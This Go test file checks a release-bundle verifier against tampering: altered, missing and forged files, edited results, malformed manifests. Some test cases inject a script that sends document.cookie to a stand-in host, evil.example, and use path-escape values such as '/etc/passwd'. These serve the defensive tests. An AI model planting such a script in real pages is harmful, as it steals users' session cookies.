package bundle

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/releasegate/releasegate/evaluator/decide"
)

func TestVerifyAcceptsABundle(t *testing.T) {
	path := makeBundle(t, sampleData, time.Time{})
	tmp := t.TempDir()
	rep, err := Verify(path, VerifyOptions{TempDir: tmp})
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Verified() {
		t.Fatalf("a fresh bundle is not verified: %v", rep.Problems)
	}
	names, _ := readZip(t, path)
	if rep.Files != len(names)-1 {
		t.Errorf("checked %d files, the bundle has %d besides MANIFEST", rep.Files, len(names)-1)
	}
	want := []SnapshotCheck{
		{"baseline-v1", decide.Block, decide.Block},
		{"candidate-v2", decide.Review, decide.Review},
		{"candidate-v3", decide.Pass, decide.Pass},
	}
	if !slices.Equal(rep.Snapshots, want) {
		t.Errorf("snapshots %v, want %v", rep.Snapshots, want)
	}
	if rep.Root+".zip" != filepath.Base(path) || len(rep.SHA256) != 64 {
		t.Errorf("root %q, sha256 %q", rep.Root, rep.SHA256)
	}
	if left := listFiles(t, tmp); len(left) > 0 {
		t.Errorf("verify left %v in its temporary folder", left)
	}
}

// problemKeys lists problems as "path kind" for comparison.
func problemKeys(ps []Problem) []string {
	var out []string
	for _, p := range ps {
		out = append(out, p.Path+" "+p.Kind)
	}
	return out
}

func TestVerifyNamesEveryChange(t *testing.T) {
	good := makeBundle(t, sampleData, time.Time{})
	tests := []struct {
		name   string
		change func(root string, files map[string][]byte)
		want   []string // "path kind", in report order
		detail string   // in the first problem's detail
		// some: want lists some of the problems, in order, not all: a
		// changed input changes many pages too.
		some bool
	}{
		{
			name:   "one changed byte in a page",
			change: func(_ string, f map[string][]byte) { f["index.html"][10] ^= 1 },
			want:   []string{"index.html altered"},
			detail: "MANIFEST lists",
		},
		{
			name:   "one removed file",
			change: func(_ string, f map[string][]byte) { delete(f, "policy.html") },
			want:   []string{"policy.html missing"},
			detail: "not in the archive",
		},
		{
			name:   "one extra file",
			change: func(_ string, f map[string][]byte) { f["snapshots/extra.html"] = []byte("<p>hi") },
			want:   []string{"snapshots/extra.html extra"},
			detail: "not listed",
		},
		{
			name: "one edited result, MANIFEST edited to match",
			change: func(_ string, f map[string][]byte) {
				p := "results/candidate-v3.json"
				f[p] = bytes.Replace(f[p], []byte(`"decision": "PASS"`), []byte(`"decision": "BLOCK"`), 1)
				remanifest(f)
			},
			want:   []string{"results/candidate-v3.json differs"},
			detail: `decision: "BLOCK" in the bundle, "PASS" recomputed`,
		},
		{
			name: "an edited report, MANIFEST edited to match",
			change: func(_ string, f map[string][]byte) {
				f["RELEASE_REPORT.md"] = bytes.Replace(f["RELEASE_REPORT.md"], []byte("`BLOCK`"), []byte("`PASS`"), 1)
				remanifest(f)
			},
			want:   []string{"RELEASE_REPORT.md differs"},
			detail: "in the bundle",
		},
		{
			name: "an edited input, MANIFEST edited to match",
			change: func(_ string, f map[string][]byte) {
				f["inputs/gate.json"] = bytes.Replace(f["inputs/gate.json"], []byte("0.9"), []byte("0.5"), 1)
				remanifest(f)
			},
			want: []string{
				"inputs/ altered", "RELEASE_REPORT.md differs", "index.html differs",
				"results/baseline-v1.json differs", "results/candidate-v2.json differs", "results/candidate-v3.json differs",
			},
			detail: "the inputs hash to",
			some:   true,
		},
		{
			name: "a removed snapshot, MANIFEST edited to match",
			change: func(_ string, f map[string][]byte) {
				delete(f, "inputs/outputs/baseline-v1.jsonl")
				remanifest(f)
			},
			want:   []string{"inputs/ altered", "RELEASE_REPORT.md differs", "index.html differs", "results/baseline-v1.json differs", "snapshots/baseline-v1.html extra"},
			detail: "the inputs hash to",
			some:   true,
		},
		{
			name: "a forged page, MANIFEST edited to match",
			change: func(_ string, f map[string][]byte) {
				f["index.html"] = bytes.Replace(f["index.html"], []byte("Blocked"), []byte("Approved"), 1)
				remanifest(f)
			},
			want:   []string{"index.html differs"},
			detail: "not what the bundled inputs build: line",
		},
		{
			name: "a script injected into a page, MANIFEST edited to match",
			change: func(_ string, f map[string][]byte) {
				p := "snapshots/candidate-v3.html"
				f[p] = bytes.Replace(f[p], []byte("</body>"), []byte("<script>fetch('https://evil.example/'+document.cookie)</script></body>"), 1)
				remanifest(f)
			},
			want:   []string{"snapshots/candidate-v3.html differs"},
			detail: "evil.example",
		},
		{
			name: "an injected script file, MANIFEST edited to match",
			change: func(_ string, f map[string][]byte) {
				f["assets/evil.js"] = []byte("fetch('https://evil.example/')\n")
				remanifest(f)
			},
			want:   []string{"assets/evil.js extra"},
			detail: "not part of the site",
		},
		{
			name: "an altered asset, MANIFEST edited to match",
			change: func(_ string, f map[string][]byte) {
				f["assets/site.css"] = append(f["assets/site.css"], []byte("body{display:none}\n")...)
				remanifest(f)
			},
			want:   []string{"assets/site.css differs"},
			detail: "display:none",
		},
		{
			name: "a page removed, MANIFEST edited to match",
			change: func(_ string, f map[string][]byte) {
				delete(f, "policy.html")
				remanifest(f)
			},
			want:   []string{"policy.html missing"},
			detail: "rebuilt from inputs/ has this file",
		},
		{
			name: "all at once",
			change: func(_ string, f map[string][]byte) {
				f["index.html"][10] ^= 1
				delete(f, "policy.html")
				f["zz.html"] = nil
			},
			want: []string{"index.html altered", "policy.html missing", "zz.html extra"},
		},
		{
			name:   "no MANIFEST",
			change: func(_ string, f map[string][]byte) { delete(f, ManifestName) },
			want:   []string{"MANIFEST missing"},
		},
		{
			name: "malformed MANIFEST",
			change: func(_ string, f map[string][]byte) {
				f[ManifestName] = append([]byte("not a checksum line\n"), f[ManifestName]...)
			},
			want:   []string{"MANIFEST invalid"},
			detail: "line 1",
		},
		{
			name: "broken input",
			change: func(_ string, f map[string][]byte) {
				f["inputs/cases.jsonl"] = append([]byte("{oops\n"), f["inputs/cases.jsonl"]...)
				remanifest(f)
			},
			want:   []string{"inputs/ altered", "inputs/ unproven"},
			detail: "the inputs hash to",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			bad := rewriteBundle(t, good, tt.change)
			rep, err := Verify(bad, VerifyOptions{TempDir: t.TempDir()})
			if err != nil {
				t.Fatal(err)
			}
			if rep.Verified() {
				t.Fatal("a changed bundle is verified")
			}
			got := problemKeys(rep.Problems)
			if tt.some {
				got = slices.DeleteFunc(got, func(k string) bool { return !slices.Contains(tt.want, k) })
			}
			if !slices.Equal(got, tt.want) {
				t.Fatalf("problems %q, want %q\n%v", got, tt.want, rep.Problems)
			}
			if !strings.Contains(rep.Problems[0].Detail, tt.detail) {
				t.Errorf("detail %q, want it to contain %q", rep.Problems[0].Detail, tt.detail)
			}
		})
	}
}

func TestVerifyRebuiltUnchangedBundle(t *testing.T) {
	// Repacked by another zip writer with the same files: still verified,
	// since verify checks contents, not archive bytes.
	good := makeBundle(t, sampleData, time.Time{})
	same := rewriteBundle(t, good, func(string, map[string][]byte) {})
	rep, err := Verify(same, VerifyOptions{TempDir: t.TempDir()})
	if err != nil || !rep.Verified() {
		t.Fatalf("Verify = %v, %v", rep, err)
	}
}

func TestVerifyBrokenInputNamesTheBundledFile(t *testing.T) {
	good := makeBundle(t, sampleData, time.Time{})
	bad := rewriteBundle(t, good, func(_ string, f map[string][]byte) {
		f["inputs/cases.jsonl"] = append([]byte("{oops\n"), f["inputs/cases.jsonl"]...)
	})
	rep, err := Verify(bad, VerifyOptions{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	last := rep.Problems[len(rep.Problems)-1]
	if !strings.Contains(last.Detail, "inputs/cases.jsonl:1") || strings.Contains(last.Detail, os.TempDir()) {
		t.Errorf("detail %q, want it to name inputs/cases.jsonl:1 inside the bundle", last.Detail)
	}
}

func TestParseManifest(t *testing.T) {
	sum := strings.Repeat("ab", 32)
	tests := []struct {
		name     string
		in       string
		want     map[string]string
		problems []string // detail substrings
	}{
		{"two lines", sum + "  a.html\n" + sum + "  b/c.json\n", map[string]string{"a.html": sum, "b/c.json": sum}, nil},
		{"binary mode, CRLF, no final newline", sum + " *a.html\r\n" + sum + "  b", map[string]string{"a.html": sum, "b": sum}, nil},
		{"empty", "", map[string]string{}, []string{"empty"}},
		{"upper-case hex", strings.ToUpper(sum) + "  a\n", map[string]string{}, []string{"line 1: want 64"}},
		{"one space", sum + " a\n", map[string]string{}, []string{"line 1"}},
		{"short sum", sum[:10] + "  a\n", map[string]string{}, []string{"line 1"}},
		{"escape", sum + "  ../a\n" + sum + "  /etc/passwd\n", map[string]string{}, []string{`line 1: path "../a"`, "line 2: path"}},
		{"duplicate", sum + "  a\n" + sum + "  a\n", map[string]string{"a": sum}, []string{"line 2: a is listed again (first on line 1)"}},
		{"blank line", sum + "  a\n\n" + sum + "  b\n", map[string]string{"a": sum, "b": sum}, []string{"line 2"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, problems := parseManifest([]byte(tt.in))
			if len(got) != len(tt.want) {
				t.Errorf("got %v, want %v", got, tt.want)
			}
			for k, v := range tt.want {
				if got[k] != v {
					t.Errorf("%s: got %q, want %q", k, got[k], v)
				}
			}
			if len(problems) != len(tt.problems) {
				t.Fatalf("problems %v, want %d", problems, len(tt.problems))
			}
			for i, p := range problems {
				if !strings.Contains(p.Detail, tt.problems[i]) {
					t.Errorf("problem %q, want it to contain %q", p.Detail, tt.problems[i])
				}
			}
		})
	}
}

func TestManifestRoundTrip(t *testing.T) {
	sums := []fileSum{{"b", sumHex([]byte("b"))}, {"a/x", sumHex(nil)}, {"a.html", sumHex([]byte("a"))}}
	text := encodeManifest(sums)
	if want := sumHex(nil) + "  a/x\n"; !strings.Contains(string(text), want) {
		t.Errorf("manifest %q lacks %q", text, want)
	}
	if lines := strings.Split(string(text), "\n"); lines[0][66:] != "a.html" || lines[1][66:] != "a/x" {
		t.Errorf("manifest not in byte order: %q", text)
	}
	got, problems := parseManifest(text)
	if len(problems) > 0 || len(got) != 3 || got["b"] != sums[0].Sum {
		t.Errorf("round trip: %v, %v", got, problems)
	}
}

func TestDescribeJSONDiff(t *testing.T) {
	tests := []struct {
		name, bundled, fresh, want string
	}{
		{"scalar", `{"decision":"BLOCK"}`, `{"decision":"PASS"}`, `decision: "BLOCK" in the bundle, "PASS" recomputed`},
		{"nested", `{"cases":[{"passed":true}]}`, `{"cases":[{"passed":false}]}`, `cases[0].passed: true in the bundle, false recomputed`},
		{"number text", `{"p":1.0}`, `{"p":1}`, `p: 1.0 in the bundle, 1 recomputed`},
		{"type", `{"p":"1"}`, `{"p":1}`, `p: "1" in the bundle, 1 recomputed`},
		{"absent", `{}`, `{"a":1}`, `a: absent in the bundle, 1 recomputed`},
		{"added", `{"a":1,"b":2}`, `{"a":1}`, `b: 2 in the bundle, absent recomputed`},
		{"length", `{"a":[1]}`, `{"a":[1,2]}`, `a: [1] in the bundle, [1,2] recomputed`},
		{"formatting", `{"a": 1}`, `{"a":1}`, "formatting"},
		{"not json", `{`, `{}`, "not valid JSON"},
		{"many", `{"a":1,"b":1,"c":1,"d":1,"e":1}`, `{"a":2,"b":2,"c":2,"d":2,"e":2}`, "and 2 more differences"},
	}
	for _, tt := range tests {
		if got := describeJSONDiff([]byte(tt.bundled), []byte(tt.fresh)); !strings.Contains(got, tt.want) {
			t.Errorf("%s: got %q, want it to contain %q", tt.name, got, tt.want)
		}
	}
}

func TestDescribeTextDiff(t *testing.T) {
	tests := []struct{ bundled, fresh, want string }{
		{"a\nb\n", "a\nc\n", `line 2: "b" in the bundle, "c" recomputed`},
		{"a\n", "a\nb\n", `line 2: "" in the bundle, "b" recomputed`},
		{"a\nb", "a\nb\n", `the bundle's copy ends at line 2`},
		{"a\nb\n\n", "a\nb\n", `the recomputed report ends at line 3; the bundle's copy goes on with ""`},
		// Far into a long line, the difference is shown, not the line's start.
		{strings.Repeat("<p>", 30) + "PASS§" + strings.Repeat("x", 200), strings.Repeat("<p>", 30) + "BLOCK§", `line 1, byte 91: "…<p><p><p><p><p><p><p><p>PASS§xxxx`},
		{"é" + strings.Repeat("x", 40) + "a", "é" + strings.Repeat("x", 40) + "b", `line 1, byte 43: "…xxxxxxxxxxxxxxxxxxxxxxxxa" in the bundle, "…xxxxxxxxxxxxxxxxxxxxxxxxb" recomputed`},
	}
	for _, tt := range tests {
		if got := describeTextDiff([]byte(tt.bundled), []byte(tt.fresh)); !strings.Contains(got, tt.want) {
			t.Errorf("describeTextDiff(%q, %q) = %q, want %q", tt.bundled, tt.fresh, got, tt.want)
		}
	}
}

func TestVerifyAcceptsFolderEntries(t *testing.T) {
	// "zip -r" of an unpacked bundle adds an entry per folder.
	good := makeBundle(t, sampleData, time.Time{})
	names, files := readZip(t, good)
	root, _, _ := strings.Cut(names[0], "/")
	entries := []entry{{name: root + "/", mode: os.ModeDir | 0o755}}
	dirs := map[string]bool{}
	for _, n := range names {
		if dir := n[:strings.LastIndexByte(n, '/')+1]; dir != root+"/" && !dirs[dir] {
			dirs[dir] = true
			entries = append(entries, entry{name: dir, mode: os.ModeDir | 0o755})
		}
		entries = append(entries, entry{name: n, data: files[n]})
	}
	path := filepath.Join(t.TempDir(), "zipped-again.zip")
	writeZip(t, path, entries)
	rep, err := Verify(path, VerifyOptions{TempDir: t.TempDir()})
	if err != nil || !rep.Verified() {
		t.Fatalf("Verify = %+v, %v", rep, err)
	}
	if len(dirs) < 3 {
		t.Errorf("only %d folder entries; the test needs nested folders", len(dirs))
	}
}

func TestVerifyBundleOfAnotherVersion(t *testing.T) {
	good := makeBundle(t, sampleData, time.Time{})
	// Made by another releasegate whose pages differ: said plainly, the
	// pages unproven, the results and report still proven.
	other := rewriteBundle(t, good, func(_ string, f map[string][]byte) {
		f[VersionName] = []byte("releasegate v9.9.9\n")
		f["index.html"] = bytes.Replace(f["index.html"], []byte("<main"), []byte("<main data-v9"), 1)
		remanifest(f)
	})
	rep, err := Verify(other, VerifyOptions{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if !rep.OtherVersion || rep.MadeBy != "releasegate v9.9.9" {
		t.Errorf("OtherVersion %v, MadeBy %q", rep.OtherVersion, rep.MadeBy)
	}
	if got := problemKeys(rep.Problems); !slices.Equal(got, []string{"index.html unproven"}) {
		t.Fatalf("problems %q", got)
	}
	if d := rep.Problems[0].Detail; !strings.Contains(d, "releasegate v9.9.9") {
		t.Errorf("detail %q does not name the other version", d)
	}
	// Same pages, another version: everything is proven.
	same := rewriteBundle(t, good, func(_ string, f map[string][]byte) {
		f[VersionName] = []byte("releasegate v9.9.9\n")
		remanifest(f)
	})
	if rep, err := Verify(same, VerifyOptions{TempDir: t.TempDir()}); err != nil || !rep.Verified() || !rep.OtherVersion {
		t.Fatalf("Verify = %+v, %v", rep, err)
	}
	// A forged result is forged whoever made the bundle.
	forged := rewriteBundle(t, good, func(_ string, f map[string][]byte) {
		f[VersionName] = []byte("releasegate v9.9.9\n")
		p := "results/candidate-v3.json"
		f[p] = bytes.Replace(f[p], []byte(`"decision": "PASS"`), []byte(`"decision": "BLOCK"`), 1)
		remanifest(f)
	})
	rep, err = Verify(forged, VerifyOptions{TempDir: t.TempDir()})
	if err != nil || !slices.Contains(problemKeys(rep.Problems), "results/candidate-v3.json differs") {
		t.Fatalf("Verify = %+v, %v", rep, err)
	}
}

func TestVerifyLeavesNoStagingFolder(t *testing.T) {
	good := makeBundle(t, sampleData, time.Time{})
	tmp := t.TempDir()
	// A folder left by a killed verify (no process holds it, and its
	// marker names it) is swept; one that merely looks alike is not.
	left := "releasegate-verify-0123456789abcdef"
	os.MkdirAll(filepath.Join(tmp, left, "bundle"), 0o755)
	os.WriteFile(filepath.Join(tmp, left, ".releasegate-stage"), []byte(left+"\n"), 0o644)
	os.MkdirAll(filepath.Join(tmp, "releasegate-verify-123", "bundle"), 0o755)
	os.WriteFile(filepath.Join(tmp, "releasegate-verify-notes.txt"), []byte("mine"), 0o644)
	if _, err := Verify(good, VerifyOptions{TempDir: tmp}); err != nil {
		t.Fatal(err)
	}
	var names []string
	entries, _ := os.ReadDir(tmp)
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if !slices.Equal(names, []string{"releasegate-verify-123", "releasegate-verify-notes.txt"}) {
		t.Errorf("left in the temporary folder: %v", names)
	}
}
